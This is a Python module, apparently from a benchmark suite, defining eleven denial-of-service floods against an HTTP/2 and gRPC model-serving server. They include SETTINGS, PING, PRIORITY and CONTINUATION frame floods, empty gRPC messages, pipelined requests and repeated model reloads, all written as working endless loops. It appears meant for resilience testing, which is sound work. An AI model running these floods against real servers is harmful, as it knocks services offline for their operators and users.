"""Floods of frames and small requests. Each is cheap for the attacker, but the server has to handle it."""

from __future__ import annotations

from collections.abc import Awaitable, Callable

from benchmarks.attacks.site import Attack, Site
from benchmarks.attacks.wire import H2Wire, HttpWire
from penstock.protocol import h2_frames as h2

_STREAMS = 1000
_BLOCK = 1 << 16
_PIPELINED = 256
_CALLS = 100
_EMPTY = bytes(5)
"""A gRPC message without content."""


def _settings() -> bytes:
    """Two full SETTINGS frames. Each frame changes the window of every stream 2,730 times."""
    count = h2.MIN_FRAME_SIZE // h2.SETTING.size
    pairs = b"".join(h2.SETTING.pack(h2.INITIAL_WINDOW_SIZE, 1 << 16 | number & 1) for number in range(count))
    return h2.frame(h2.SETTINGS, 0, 0, pairs) * 2


def _flooding(frames: bytes, streams: int = 0) -> Callable[[Site], Awaitable[None]]:
    """One HTTP/2 connection that opens calls and then repeats ``frames``."""
    block = frames * max(1, _BLOCK // len(frames))

    async def run(site: Site) -> None:
        async with H2Wire(site, window=h2.DEFAULT_WINDOW) as wire:
            await wire.open()
            if streams:
                await wire.send(b"".join(wire.call("ModelStreamInfer")[1] for _ in range(streams)))
            while True:
                await wire.send(block)

    return run


async def _empty_messages(site: Site) -> None:
    messages = _EMPTY * (h2.MIN_FRAME_SIZE // len(_EMPTY))
    async with H2Wire(site) as wire:
        await wire.open()
        while True:
            stream, head = wire.call("ModelStreamInfer")
            await wire.send(head)
            ended = wire.ended
            while wire.ended == ended:
                await wire.data(stream, messages)


async def _continuation(site: Site) -> None:
    """A header block that never ends: HEADERS, then CONTINUATION frames of one byte, with empty CONTINUATION frames in between."""
    frames = (h2.frame(h2.CONTINUATION, 0, 1, b"\x82") + h2.frame(h2.CONTINUATION, 0, 1)) * (_BLOCK // 19)
    async with H2Wire(site) as wire:
        await wire.open()
        _, head = wire.call("ModelInfer", flags=0)
        await wire.send(head)
        while True:
            await wire.send(frames)


async def _pipelining(site: Site) -> None:
    """Hundreds of pipelined requests for the repository index. The attacker reads the responses."""
    async with HttpWire(site) as wire:
        requests = wire.request("/v2/repository/index", b"{}") * _PIPELINED
        expected = 0
        while True:
            expected += _PIPELINED
            await wire.send(requests)
            await wire.until(lambda expected=expected: wire.answers >= expected)


async def _control_calls(site: Site) -> None:
    """A hundred concurrent calls for the statistics of all models."""
    async with H2Wire(site) as wire:
        await wire.open()
        while True:
            expected = wire.ended + _CALLS
            calls = []
            for _ in range(_CALLS):
                stream, head = wire.call("ModelStatistics")
                calls.append(head + h2.frame(h2.DATA, h2.END_STREAM, stream, _EMPTY))
            await wire.send(b"".join(calls))
            await wire.until(lambda expected=expected: wire.ended >= expected)


async def _connections(site: Site) -> None:
    """A new connection for every request."""
    async with HttpWire(site) as wire:
        await wire.ask(wire.request("/v2/health/live", method="GET"))


async def _reload(site: Site) -> None:
    """Load and unload the same model again and again."""
    async with HttpWire(site) as wire:
        while True:
            for verb in ("load", "unload"):
                await wire.ask(wire.request(f"/v2/repository/models/reloaded/{verb}", b"{}"))


_OPEN = 1  # the first stream of a client

FLOODS = {
    "settings": Attack(
        f"SETTINGS of 2,730 windows each on {_STREAMS:,} open streams", _flooding(_settings(), _STREAMS)
    ),
    "ping": Attack("PING frames", _flooding(h2.ping(bytes(8)))),
    "priority": Attack("PRIORITY frames", _flooding(h2.frame(h2.PRIORITY, 0, 5, bytes(5)))),
    "window-update": Attack("WINDOW_UPDATE frames", _flooding(h2.window_update(_OPEN, 1), 1)),
    "empty-data": Attack("DATA frames of no bytes on an open call", _flooding(h2.frame(h2.DATA, 0, _OPEN), 1)),
    "continuation": Attack("a header block without end", _continuation),
    "empty-messages": Attack("gRPC messages of no bytes in a stream", _empty_messages),
    "pipelining": Attack(f"{_PIPELINED} pipelined requests for the repository index at once", _pipelining),
    "control-calls": Attack(f"{_CALLS} gRPC calls for statistics at once", _control_calls),
    "connections": Attack("a new connection for every request", _connections),
    "reload": Attack("load and unload of one model", _reload),
}
